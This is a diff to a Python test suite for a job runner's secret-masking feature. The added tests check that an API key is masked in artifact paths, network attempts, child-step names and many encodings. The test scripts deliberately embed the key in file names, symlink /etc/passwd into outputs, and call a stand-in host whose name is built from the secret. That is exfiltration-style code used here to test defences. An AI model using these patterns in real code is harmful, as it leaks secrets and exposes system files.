@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import base64
+import html
 import json
+from urllib.parse import quote, urlencode
 
 import pytest
 from hypothesis import given, settings
@@ -14,7 +17,7 @@ from registry.models import Membership, Role, Secret
 from registry.packages.problems import Refused
 from worker.documents import run_document
 from worker.masking import Mask, MaskedOutput
-from worker.models import Run
+from worker.models import Attempt, Run, Step
 from worker.runs import run_here
 
 pytestmark = [pytest.mark.django_db, pytest.mark.row("C6")]
@@ -65,6 +68,51 @@ def test_a_run_gets_what_was_granted_and_nothing_that_is_kept_shows_it(needing, 
         assert text not in json.dumps(
             Run.objects.filter(pk=run.pk).values()[0], default=str, ensure_ascii=False
         )
+
+
+def test_names_of_files_and_hosts_that_a_script_makes_of_a_secret_are_kept_without_it(
+    published, kept, team, ask, owner
+):
+    secrets.put_secret(team, "API_KEY", "hunter2abc", owner)
+    script = """
+        import os, urllib.request
+        key = os.environ["API_KEY"]
+        os.makedirs("/job/output/of-" + key)
+        for name in ("of-" + key + "/a.txt", "of-***.txt", "of-" + key + ".txt"):
+            open("/job/output/" + name, "w").write(name)
+        os.symlink("/etc/passwd", "/job/output/leads-" + key)
+        try:
+            urllib.request.urlopen("http://" + key + ".example.org/")
+        except OSError as error:
+            print(error)
+    """
+    front = "security: {secrets: [API_KEY], network: allowlist, network_allowlist: [api.example.org]}\n"
+    version = published("telling", script, front=front)
+    secrets.grant(kept, version, owner)
+    run = run_here(ask(version))
+    assert run.status == "succeeded", run.message
+    assert [row.path for row in run.artifacts.order_by("path")] == ["of-***.txt", "of-***/a.txt"]
+    assert [dial["host"] for dial in Attempt.objects.get(run=run).network] == ["***.example.org"]
+    told = [each for each in run.result["warnings"] if "not collected" in each]
+    assert len(told) == 2, told
+    assert "hunter2abc" not in json.dumps(Run.objects.filter(pk=run.pk).values()[0], default=str)
+
+
+def test_a_step_that_asks_for_a_skill_of_a_secret_s_name_is_kept_without_it(
+    published, kept, team, ask, owner
+):
+    kept = secrets.put_secret(team, "API_KEY", "hunter2abc", owner)
+    script = """
+        import os, subprocess
+        asks = [os.environ["SKILLQUAY_RUN"], "docs/" + os.environ["API_KEY"], "{}"]
+        subprocess.run(asks, close_fds=False)
+    """
+    version = published("asking", script, front="requires: [docs/other]\nsecurity: {secrets: [API_KEY]}\n")
+    secrets.grant(kept, version, owner)
+    run = run_here(ask(version))
+    step = Step.objects.get(run=run, kind="child")
+    assert (step.name, step.error["name"]) == ("docs/***", "CHILD_NOT_REQUIRED")
+    assert "hunter2abc" not in json.dumps([step.input, step.error])
 
 
 def test_what_is_not_set_or_not_granted_is_refused_before_it_runs(needing, ask, team, owner):
@@ -223,6 +271,31 @@ class TestMask:
         key = "-----BEGIN KEY-----\nMIIEpAIBAAKCAQEA\nsecond&line=/?\n-----END KEY-----\n"
         for said in ("MIIEpAIBAAKCAQEA", "second%26line%3D%2F%3F", json.dumps(key)):
             assert b"***" in Mask([key]).text(said.encode())
+
+    @pytest.mark.parametrize(
+        "write",
+        [
+            lambda text: base64.b64encode(text.encode()),
+            lambda text: base64.b64encode(f"{text}\n".encode()),
+            lambda text: base64.b64encode(f"user:{text}".encode()),
+            lambda text: base64.b64encode(f"ab{text}:x".encode()),
+            lambda text: base64.urlsafe_b64encode(f"a{text}".encode()),
+            lambda text: text.encode().hex().encode(),
+            lambda text: json.dumps(json.dumps({"key": text})).encode(),
+            lambda text: json.dumps(
+                json.dumps({"key": text}, ensure_ascii=False), ensure_ascii=False
+            ).encode(),
+            lambda text: json.dumps(text).replace("/", "\\/").encode(),
+            lambda text: json.dumps(text).translate({ord(c): f"\\u{ord(c):04x}" for c in "<&>"}).encode(),
+            lambda text: repr({"key": text}).encode(),
+            lambda text: html.escape(text).encode(),
+            lambda text: urlencode({"key": text}).encode(),
+            lambda text: f"https://host.example/{quote(text)}".encode(),
+        ],
+    )
+    def test_other_ways_to_write_a_password(self, write):
+        said = write(VALUE + "/+<&>?")
+        assert b"***" in Mask([VALUE + "/+<&>?"]).text(said), said
 
     def test_without_secrets_nothing_changes(self):
         assert not Mask()
